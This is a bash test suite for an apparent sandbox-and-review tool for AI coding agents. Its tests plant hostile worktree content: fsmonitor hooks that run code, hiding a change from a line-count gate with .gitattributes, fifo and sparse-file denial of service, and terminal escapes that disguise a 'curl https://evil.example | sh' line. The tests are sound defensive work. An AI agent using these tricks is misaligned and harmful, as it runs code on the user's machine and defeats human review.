#!/usr/bin/env bash
# The hostile worktree, git side (issue 8, holes 2-5): every byte of a task's
# worktree is the attacker's. Each test plants what an agent could leave
# behind from inside the sandbox, as the agent does (plant, agent_sh: on a
# layered task that writes its layer, which the host's readers then read),
# and checks what the host commands do with it: never follow a link out,
# never open a fifo or device, never block, never run or trust the task's
# configuration or attributes, never read past a bound, and refuse with one
# clear line naming the path, exit 1, nothing changed. Where the person's
# own git in the worktree is the subject, the test opens the task as the
# person does (task_path: a layered task is made full then).
. "$(dirname "$0")/lib.sh"
HERE=$(cd "$(dirname "$0")" && pwd)

# A repository and a task t, the branch tip in $tip.
task_repo() {
	make_repo repo
	ok "new" -C repo new t
	tip=$(git -C repo rev-parse agenttask/t)
}

# plant SCRIPT [ARGS...]: what the agent leaves: SCRIPT run in task t's
# sandbox, from the worktree's top (agent_sh).
plant() {
	agent_sh t "$@"
}

# any_policy: a policy file with no rule ($PWD/policy.json), for `gate --policy`.
# Without a policy the gate judges nothing and reads nothing of the worktree
# (issue 9: no diff is made), so a test of what the gate refuses gives it one.
any_policy() {
	printf '{}\n' >"$PWD/policy.json"
}

# refused WHAT NEEDLE ARGS...: agenttask ARGS exits 1 with one line holding NEEDLE.
refused() {
	local what=$1 needle=$2
	shift 2
	expect_rc 1 "$what" "$@"
	assert_contains "$errout" "$needle" "$what: the message"
	assert_eq "$(printf '%s\n' "$errout" | wc -l)" "1" "$what: one line"
}

# within SECONDS WHAT ARGS...: agenttask ARGS must end (any status) within SECONDS.
within() {
	local secs=$1 what=$2
	shift 2
	set +e
	timeout -k 5 "$secs" "$AT" "$@" >/dev/null 2>"$_at_root/within.err" </dev/null
	rc=$?
	set -e
	[ "$rc" != 124 ] && [ "$rc" != 137 ] || fail "$what: 'agenttask $*' blocked (killed after ${secs}s)"
}

# fsmonitor_repo DIR MARKER: the agent makes a repository at DIR (in task
# t's worktree) whose core.fsmonitor would create MARKER: the agent's code,
# if anything on the host runs it.
fsmonitor_repo() {
	plant 'd=$PWD/$1
		git init -q "$d" && printf "x\n" >"$d/x" && git -C "$d" add x &&
		git -C "$d" -c user.name=a -c user.email=a@a commit -q -m x &&
		printf "#!/bin/sh\ntouch %s\nexit 1\n" "$2" >"$d/.git/fsmonitor-hook" &&
		chmod +x "$d/.git/fsmonitor-hook" &&
		git -C "$d" config core.fsmonitor "$d/.git/fsmonitor-hook"' "$1" "$2"
}

# person_git_status: the person opens task t (task_path) and runs a plain
# `git status` there, as they would; what it says does not matter.
person_git_status() {
	task_path t
	git -C "$out" status >/dev/null 2>&1 || true
}

# ---------------------------------------------------------------- hole 2: nested repositories

# The attack: the agent makes a repository inside the worktree, with a
# core.fsmonitor that runs its code. Before, commit and accept recorded it as
# a gitlink, and the user's next plain `git status` in the worktree ran the
# hook as the user. Now every command that would record or compare it
# refuses, naming it, nothing is recorded, and git status runs nothing.
test_an_embedded_repository_is_refused_and_its_fsmonitor_never_runs() {
	task_repo
	local marker=$PWD/PWNED
	fsmonitor_repo inner "$marker"
	plant 'printf "a change\n" >>README'
	refused "diff" "embedded repository 'inner'" -C repo diff t
	refused "commit" "embedded repository 'inner'" -C repo commit t
	refused "accept" "embedded repository 'inner'" -C repo accept t
	any_policy
	refused "gate" "embedded repository 'inner'" -C repo gate t --policy "$PWD/policy.json"
	refused "discard" "embedded repository 'inner'" -C repo discard t
	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "nothing committed"
	assert_eq "$(git -C repo rev-parse main)" "$(git -C repo rev-parse agenttask/t)" "nothing merged"
	plant 'git ls-files -s inner'
	assert_no_output "$out" "no gitlink in the index"
	ok "list" -C repo list
	assert_contains "$out" "modified" "list calls it modified"
	person_git_status
	assert_no_file "$marker" "the agent's fsmonitor ran"
	assert_empty "no gitlink in the index the person's git reads" git -C "$out" ls-files -s inner
	ok "discard --force" -C repo discard --force t
	assert_no_file "$marker" "the agent's fsmonitor ran"
}

# A .git that is a symlink to, or a gitdir: file naming, another repository
# (here the user's own): before, the host opened that repository and
# recorded its HEAD. Refused, both named; neither repository opened.
test_a_git_symlink_or_gitdir_file_is_refused() {
	task_repo
	plant 'mkdir a b && ln -s "$1" a/.git && printf "gitdir: %s\n" "$1" >b/.git' "$PWD/repo/.git"
	refused "diff" "'a', 'b'" -C repo diff t --stat
	refused "commit" "embedded repository" -C repo commit t
	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "nothing committed"
}

# A submodule of the base stays a gitlink whose commit is the index's: the
# host never enters its directory. The agent plants a repository there (with
# a fsmonitor) to move the submodule or run code: refused.
test_a_submodule_of_the_base_is_never_read() {
	make_repo repo
	local marker=$PWD/PWNED sub_id
	sub_id=$(git -C repo rev-parse HEAD)
	git -C repo update-index --add --cacheinfo "160000,$sub_id,sub"
	printf '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n' >repo/.gitmodules
	git -C repo add .gitmodules
	git -C repo commit -q -m "a submodule"
	ok "new" -C repo new t
	plant 'test -d sub' || fail "the submodule's directory"
	plant 'printf "files in the submodule are not the task'"'"'s change\n" >sub/file'
	ok "diff" -C repo diff t --name-only
	assert_no_output "$out" "nothing changed"
	fsmonitor_repo sub "$marker"
	refused "diff" "embedded repository 'sub'" -C repo diff t
	refused "commit" "embedded repository 'sub'" -C repo commit t
	plant 'rm -rf sub/.git && printf "gitdir: %s/evil\n" "$PWD" >sub/.git'
	refused "diff of a .git file pointing into the worktree" "'sub'" -C repo diff t
	plant 'rm -f sub/.git'
	ok "commit" -C repo commit t
	assert_eq "$(git -C repo ls-tree agenttask/t sub | cut -c1-54)" "160000 commit $sub_id" "the gitlink as it was"
	assert_no_file "$marker" "the agent's fsmonitor ran"
}

# The same attack from inside the sandbox, as an agent would make it.
test_a_repository_made_inside_the_sandbox_is_refused() {
	unshare -Ur true 2>/dev/null || skip "user namespaces are unavailable here"
	task_repo
	local marker=$PWD/PWNED
	ok "git init inside" -C repo run t -- sh -c \
		'git init -q inner && git -C inner config core.fsmonitor "touch '"$marker"'"'
	refused "commit" "embedded repository 'inner'" -C repo commit t
	person_git_status
	assert_no_file "$marker" "the agent's fsmonitor ran"
}

# ---------------------------------------------------------------- hole 3: links and special files

# The attack: fifos everywhere (a .gitignore, a nested one, untracked ones),
# a socket, links to /dev/zero and to a fifo outside the worktree. Before,
# `list` hung for the whole repository and `discard --force` hung holding
# the repository lock. No host command may block: each must end.
test_no_host_command_blocks_on_fifos_sockets_or_devices() {
	task_repo
	mkfifo "$PWD/outside-fifo"
	plant 'mkdir d newdir &&
		mkfifo .gitignore src/.gitignore d/fifo newdir/.gitignore fifo &&
		ln -s "$1" to-fifo && ln -s /dev/zero zero &&
		python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")" &&
		printf "new\n" >newdir/file' "$PWD/outside-fifo"
	within 30 "list" -C repo list
	within 30 "status" -C repo status t
	within 30 "diff" -C repo diff t
	within 30 "diff --json" -C repo diff t --json
	within 30 "gate" -C repo gate t
	within 30 "commit" -C repo commit t
	# What the review shows: the links as links, the new file; no fifo, no socket.
	ok "diff --name-only" -C repo diff t --name-only
	assert_eq "$out" "$(printf 'newdir/file\nto-fifo\nzero\n')" "changed paths"
	assert_eq "$(git -C repo cat-file -p agenttask/t:zero)" "/dev/zero" "a link recorded as its text"
	within 30 "discard --force" -C repo discard --force t
	within 30 "gc" -C repo gc
	within 30 "restore" -C repo restore t
	ok "list after all that" -C repo list
}

# A tracked file replaced by a fifo: git add refuses it; so do diff, commit
# and a plain discard, at once and naming it; discard --force saves the
# commits and does not hang while holding the lock.
test_a_tracked_file_that_became_a_fifo_is_refused() {
	task_repo
	plant 'rm README && mkfifo README'
	refused "diff" "'README' is a fifo" -C repo diff t
	refused "commit" "'README' is a fifo" -C repo commit t
	refused "discard" "discard --force" -C repo discard t
	within 30 "discard --force" -C repo discard --force t
	assert_contains "$(cat "$_at_root/within.err")" "saving the commits only" "says what it saved"
	expect_rc 2 "the task is gone" -C repo status t
}

# git does not follow an in-tree symlinked .gitignore or .gitattributes, and
# refuses a symlinked .gitmodules. The attack: a .gitignore linked to a file
# outside that ignores everything (or to /dev/zero). It is never followed:
# an untracked file stays visible when the link itself is ignored, and a link
# by any of those names is never recorded (libgit2, and git before 2.32,
# would follow it in every later checkout).
test_symlinked_gitignore_gitattributes_and_gitmodules_are_never_followed() {
	task_repo
	printf 'secret.txt\n*\n' >"$PWD/outside-ignore"
	printf '.gitignore\n' >>"$(git -C repo rev-parse --absolute-git-dir)/info/exclude"
	plant 'ln -s "$1" .gitignore && printf "visible\n" >secret.txt' "$PWD/outside-ignore"
	ok "diff --name-only" -C repo diff t --name-only
	assert_eq "$out" "secret.txt" "the link's patterns are not read"
	sed -i '$d' "$(git -C repo rev-parse --absolute-git-dir)/info/exclude"
	refused "a symlinked .gitignore is not recorded" "'.gitignore' is a symbolic link" \
		-C repo diff t
	plant 'rm .gitignore && ln -s /dev/zero src/.gitattributes'
	refused "nor a .gitattributes" "'src/.gitattributes' is a symbolic link" -C repo commit t
	plant 'rm src/.gitattributes && ln -s /etc/passwd .gitmodules'
	refused "nor a .gitmodules" "'.gitmodules' is a symbolic link" -C repo accept t
	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "nothing committed"
}

# A trash entry saved before these refusals existed may hold a symlinked
# .gitattributes, which libgit2's checkout would follow while restore writes
# the worktree: such an entry is not restored, and nothing is made.
test_restore_refuses_a_trash_entry_with_a_symlinked_gitattributes() {
	task_repo
	ok "discard" -C repo discard t
	local ref idx blob tree commit
	ref=$(git -C repo for-each-ref --format='%(refname)' refs/agenttask/trash/t/)
	idx=$PWD/tmp-index
	GIT_INDEX_FILE=$idx git -C repo read-tree "$ref^{tree}"
	blob=$(printf '/dev/zero' | git -C repo hash-object -w --stdin)
	GIT_INDEX_FILE=$idx git -C repo update-index --add --cacheinfo "120000,$blob,.gitattributes"
	tree=$(GIT_INDEX_FILE=$idx git -C repo write-tree)
	commit=$(git -C repo log -1 --format=%B "$ref" | git -C repo commit-tree "$tree" -p "$ref^")
	git -C repo update-ref "$ref" "$commit"
	refused "restore" "'.gitattributes' is a symbolic link" -C repo restore t
	expect_rc 2 "no task made" -C repo status t
	assert_empty "no branch made" git -C repo branch --list agenttask/t
}

# In CI the head is a pushed commit: a symlinked .gitattributes in it is
# refused by the gate and the diff before anything is checked out.
test_ci_mode_refuses_a_symlinked_gitattributes_in_the_head() {
	make_repo repo
	git -C repo checkout -q -b feature
	ln -s /dev/zero repo/.gitattributes
	git -C repo add .gitattributes
	git -C repo commit -q -m "link"
	any_policy
	refused "gate in CI" "'.gitattributes' is a symbolic link" \
		-C repo gate --base main --head feature --policy "$PWD/policy.json"
	refused "diff in CI" "'.gitattributes' is a symbolic link" -C repo diff --base main --head feature
}

# A name with control characters reaches the terminal escaped.
test_refusals_show_control_characters_escaped() {
	task_repo
	local name
	name=$(printf 'evil\033[2Jname')
	plant 'mkdir "$1" && : >"$1/.git"' "$name"
	refused "diff" 'evil\x1b[2Jname' -C repo diff t
	assert_not_contains "$errout" "$(printf '\033')" "no raw escape"
}

# ---------------------------------------------------------------- hole 4: attributes

# fifty_lines FILE: a 50-line change to FILE (tracked, ten lines before).
fifty_lines() {
	seq 100 149 >"$1"
}

# numbers_task: a repository whose 10-line 'numbers' a task t's agent changes
# by 50 lines, under a policy of at most 20, with `* -diff` in its
# .gitattributes.
numbers_task() {
	make_repo repo
	seq 1 10 >repo/numbers
	git -C repo add numbers
	git -C repo commit -q -m numbers
	set_policy '{"max_changed_lines": 20}'
	ok "new" -C repo new t
	plant 'seq 100 149 >numbers && printf "* -diff\n" >.gitattributes'
}

# The attack: an untracked, ignored .gitattributes saying `* -diff` turned a
# 50-line change into "Binary files differ", counted as 0 lines, and passed
# max_changed_lines. Attributes come from the base commit only.
test_an_untracked_ignored_gitattributes_cannot_hide_a_change() {
	numbers_task
	plant 'printf ".gitattributes\n.gitignore\n" >.gitignore'
	ok "diff --stat" -C repo diff t --stat
	assert_contains "$out" "50 insertions(+), 10 deletions(-)" "counted"
	ok "diff" -C repo diff t
	assert_not_contains "$out" "Binary files" "shown as text"
	expect_rc 1 "gate" -C repo gate t --json
	assert_contains "$out" "60 lines changed" "the gate counts them"
}

# The same with the .gitattributes committed: by the task (agenttask commit)
# or, in CI, in the pushed head, which is also the checkout the gate runs in.
test_a_committed_gitattributes_cannot_hide_a_change_in_the_task_or_in_ci() {
	numbers_task
	ok "commit" -C repo commit t
	expect_rc 1 "gate of the task" -C repo gate t --json
	assert_contains "$out" "61 lines changed" "the task's gate counts them"
	git -C repo checkout -q -b feature
	fifty_lines repo/numbers
	printf '* -diff\n' >repo/.gitattributes
	git -C repo add -A
	git -C repo commit -q -m "hide it"
	expect_rc 1 "gate in CI, on the head's checkout" -C repo gate --base main --head feature --json
	assert_contains "$out" "61 lines changed" "CI counts them"
	ok "diff in CI" -C repo diff --base main --head feature --stat
	assert_contains "$out" "51 insertions(+), 10 deletions(-)" "CI's diff counts them"
}

# The base's own attributes still apply (the user's choice), to the review
# and to what is hashed.
test_the_base_attributes_still_apply() {
	make_repo repo
	printf '*.dat binary\n' >repo/.gitattributes
	printf 'text\n' >repo/x.dat
	git -C repo add -A
	git -C repo commit -q -m attrs
	ok "new" -C repo new t
	plant 'printf "other text\n" >x.dat'
	ok "diff" -C repo diff t
	assert_contains "$out" "Binary files a/x.dat and b/x.dat differ" "binary by the base's attributes"
}

# A task's .gitattributes cannot change what is hashed (an ident or eol
# filter would make the blob differ from the bytes reviewed), and no filter
# driver ever runs, even one the user configured.
test_a_task_gitattributes_changes_no_blob_and_runs_no_filter() {
	task_repo
	git -C repo config filter.evil.clean "touch $PWD/FILTER-RAN; cat"
	git -C repo config filter.evil.smudge "touch $PWD/FILTER-RAN; cat"
	local bytes='id $Id: planted $\r\nline\r\n'
	plant 'printf "* filter=evil\n*.txt ident eol=crlf\n" >.gitattributes && printf "$1" >a.txt' \
		"$bytes"
	ok "diff" -C repo diff t --json
	ok "commit" -C repo commit t
	# shellcheck disable=SC2059
	assert_eq "$(git -C repo cat-file -p agenttask/t:a.txt | od -c)" "$(printf "$bytes" | od -c)" \
		"the blob is the bytes"
	# .gitattributes is a file the host obeys: flagged, accepted only by the
	# person's override (and still no filter runs when it is).
	expect_rc 1 "accept without a review" -C repo accept t
	assert_contains "$errout" "changes '.gitattributes', which tools on the host" "flagged"
	ok "accept" -C repo accept t --override "reviewed the attributes"
	assert_no_file "$PWD/FILTER-RAN" "a filter driver ran"
}

# git's ignore rules, matched by agenttask itself (core/ignore.c, the files
# read by git/wtignore.c), leave exactly the untracked files git leaves, over
# generated trees of .gitignore files with every kind of pattern
# (ignoretrees.py). libgit2's rules, used before, differed on some.
test_ignore_rules_match_git_on_generated_trees() {
	task_repo
	local seed want got
	git -C repo config core.quotepath false
	for seed in $(seq 1 60); do
		# The agent writes the tree; git inside, on the same files, is the oracle.
		plant 'rm -rf g && mkdir g && python3 -c "$1" g "$2" &&
			git -c core.quotepath=false ls-files --others --exclude-standard' \
			"$(cat "$HERE/ignoretrees.py")" "$seed"
		want=$(printf '%s\n' "$out" | LC_ALL=C sort)
		ok "diff --name-only (seed $seed)" -C repo diff t --name-only
		got=$(printf '%s\n' "$out" | sed 's/^"\(.*\)"$/\1/' | LC_ALL=C sort)
		if [ "$got" != "$want" ]; then
			plant 'find g -name .gitignore -print -exec cat -A {} \;'
			printf '%s\n' "$out" >&2
			diff <(printf '%s\n' "$want") <(printf '%s\n' "$got") >&2 || true
			fail "seed $seed: agenttask's untracked files differ from git's"
		fi
	done
}

# ---------------------------------------------------------------- hole 5: amplification

# The attack: a 2 GB sparse file (no disk used) cost 12 s and a 9 MB object
# on every diff. Refused at once, unread, naming it and the limit.
test_a_sparse_file_over_the_limit_is_refused_unread() {
	task_repo
	plant 'truncate -s 2G big'
	local start end
	start=$(date +%s%N)
	refused "diff" "'big' is 2.0 GiB, over the 100.0 MiB agenttask reads" -C repo diff t
	end=$(date +%s%N)
	[ $(((end - start) / 1000000)) -lt 2000 ] || fail "took $(((end - start) / 1000000)) ms"
	assert_contains "$errout" "--max-file-size" "says how to raise it"
	refused "commit" "'big'" -C repo commit t
	refused "discard" "'big'" -C repo discard t
	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "nothing committed"
}

# The limit: agenttask.maxFileSize, then --max-file-size on each command.
test_the_limit_is_set_by_config_and_by_flag() {
	task_repo
	plant 'head -c 3000 /dev/urandom >blob'
	git -C repo config agenttask.maxFileSize 2k
	refused "diff over the configured limit" "over the 2.0 KiB" -C repo diff t --stat
	ok "diff --max-file-size" -C repo diff t --stat --max-file-size 4k
	any_policy
	refused "gate" "'blob'" -C repo gate t --policy "$PWD/policy.json"
	ok "gate --max-file-size" -C repo gate t --max-file-size 1M --policy "$PWD/policy.json"
	ok "commit --max-file-size" -C repo commit t --max-file-size 1M
	# committed now: the diff of the branch is bounded as well
	refused "diff of the commit" "'blob'" -C repo diff t
	ok "accept --max-file-size" -C repo accept t --max-file-size 1M --keep
	ok "discard --max-file-size" -C repo discard t --max-file-size 1M
	expect_rc 2 "a bad --max-file-size" -C repo diff --base main --max-file-size 0
	git -C repo config agenttask.maxFileSize lots
	ok "new u" -C repo new u
	expect_rc 2 "a bad agenttask.maxFileSize" -C repo diff u
	assert_contains "$errout" "agenttask.maxFileSize" "names the setting"
	# Read only where a worktree or a diff is read: run does not need it.
	ok "run with a bad agenttask.maxFileSize" -C repo run u -- true
	ok "--max-file-size overrides a bad agenttask.maxFileSize" -C repo diff u \
		--max-file-size 1M
}

# The attack: a 3 GB sparse .gitignore cost 3.1 GB of memory. Ignore and
# attributes files are bounded at 1 MiB and never read past it: refused at
# once, the command's peak memory under 256 MB to prove it was not read
# (measured, not capped: ASan cannot run under ulimit -v).
test_huge_ignore_and_attributes_files_are_refused_unread() {
	task_repo
	local peak
	plant 'mkdir d && truncate -s 3G d/.gitignore && printf "x\n" >d/x'
	refused "diff" "'d/.gitignore' is 3.0 GiB, over the 1.0 MiB" -C repo diff t
	peak=$(python3 -c 'import resource, subprocess, sys
subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)' "$AT" -C repo diff t)
	[ "$peak" -lt 256 ] || fail "the diff's peak memory was $peak MB"
	plant 'rm d/.gitignore && head -c 1100000 /dev/zero | tr "\0" x >.gitattributes'
	refused "a 1.1 MB .gitattributes" "'.gitattributes' is 1.0 MiB, over the 1.0 MiB" -C repo commit t
}

# ---------------------------------------------------------------- hole 7: the reviewer's terminal

# pty ARGS...: agenttask ARGS on a pseudo-terminal (stdout and stderr both),
# as a person runs it; what it wrote there in $out, its status in $rc.
pty() {
	set +e
	# No pager (it would draw the terminal itself): what agenttask writes.
	out=$(GIT_PAGER=cat python3 "$HERE/ptyrun.py" "$AT" "$@")
	rc=$?
	set -e
}

# no_raw_controls WHAT TEXT: TEXT holds no control byte but newline and tab
# once git's colour sequences (ESC [ ... m, which agenttask writes itself)
# are taken out: no ESC, CR, BEL, backspace, DEL, nor a C1 (UTF-8 or raw).
no_raw_controls() {
	local left
	left=$(printf '%s' "$2" | sed 's/\x1b\[[0-9;]*m//g' |
		LC_ALL=C tr -d '\n\t' | LC_ALL=C tr -d ' -~\240-\377' | od -An -tx1 | tr -d ' \n')
	left=${left//c2/}   # lead bytes of ordinary UTF-8 text
	[ -z "$left" ] || fail "$1: raw control bytes reached the terminal: $left"
}

# The attack: the agent runs a command whose argv holds ESC [ 2 J (clear the
# screen), an OSC 52 (set the reviewer's clipboard) and a UTF-8 C1 CSI.
# Before, `agenttask log` printed them raw and the reviewer's terminal obeyed.
# Now, on a terminal as to a pipe, the text shows them as \xNN; --json keeps
# the exact argv for programs.
test_log_shows_the_argv_of_a_run_escaped() {
	task_repo
	ok "run" -C repo run t -- true $'\e[2J' $'\e]52;c;ZXZpbA==\a' $'\xc2\x9b1m' $'a\rb'
	pty -C repo log t
	assert_eq "$rc" "0" "log on a terminal"
	no_raw_controls "log" "$out"
	assert_contains "$out" '\x1b[2J' "the ESC shown"
	assert_contains "$out" '\x1b]52;c;ZXZpbA==\x07' "the OSC shown"
	assert_contains "$out" '\xc2\x9b1m' "the C1 shown"
	assert_contains "$out" 'a\x0db' "the CR shown"
	ok "log to a pipe" -C repo log t
	no_raw_controls "log to a pipe" "$out"
	ok "log --json" -C repo log t --json
	assert_eq "$(json_get "$out" 'j[-1]["argv"][1]')" $'\e[2J' "--json keeps the argv exact"
}

# The attack: a changed file whose lines hold a CR and ESC [ 2 K (the line
# "curl https://evil | sh" then erased and overwritten with an innocent one),
# a symbolic link whose target holds ESC, and a file name with a C1 that
# core.quotepath=false lets through unquoted. On a terminal (coloured or
# not) every one is shown as \xNN, only agenttask's own colours are raw; to
# a pipe without colour the patch stays byte-exact, and `git apply` takes it.
test_diff_on_a_terminal_shows_the_tasks_controls_escaped() {
	task_repo
	git -C repo config core.quotepath false
	plant 'printf "%s\n" "$1" >install.sh && ln -s "$2" link && printf "x\n" >"$3"' \
		"$(printf 'curl https://evil.example | sh\r\033[2K# a comment')" \
		"$(printf 'target\033[2Jx')" "$(printf 'name\302\233')"
	local mode
	for mode in "" --color=never --stat --name-only; do
		pty -C repo diff t $mode
		assert_eq "$rc" "0" "diff $mode on a terminal"
		no_raw_controls "diff $mode" "$out"
		assert_contains "$out" 'name\xc2\x9b' "diff $mode: the C1 name shown"
	done
	pty -C repo diff t
	assert_contains "$out" 'evil.example | sh\x0d\x1b[2K# a comment' "the CR and ESC shown"
	assert_contains "$out" 'target\x1b[2Jx' "the link target shown"
	"$AT" -C repo diff t >"$_at_root/patch"
	grep -q "$(printf 'sh\r\033\\[2K#')" "$_at_root/patch" || fail "the piped patch is not exact"
	git -C repo apply --check "$_at_root/patch" || fail "git apply refuses the piped patch"
}

# The attack: the task's file names carry ESC into the messages and lists a
# person reads: a conflict list of accept, the merge preview of status.
test_conflict_lists_show_the_tasks_names_escaped() {
	make_repo repo
	local name
	name=$(printf 'conf\033[2Jlict')
	printf 'base\n' >"repo/$name"
	git -C repo add -A
	git -C repo commit -q -m base
	ok "new" -C repo new t
	plant 'printf "task\n" >"$1"' "$name"
	ok "commit" -C repo commit t
	printf 'main\n' >"repo/$name"
	git -C repo commit -q -am main
	pty -C repo status t
	no_raw_controls "status" "$out"
	assert_contains "$out" 'would conflict in: conf\x1b[2Jlict' "the preview names it escaped"
	pty -C repo accept t
	assert_eq "$rc" "1" "accept refuses the conflict"
	no_raw_controls "accept" "$out"
	assert_contains "$out" 'conf\x1b[2Jlict' "the conflict list names it escaped"
}

run_tests
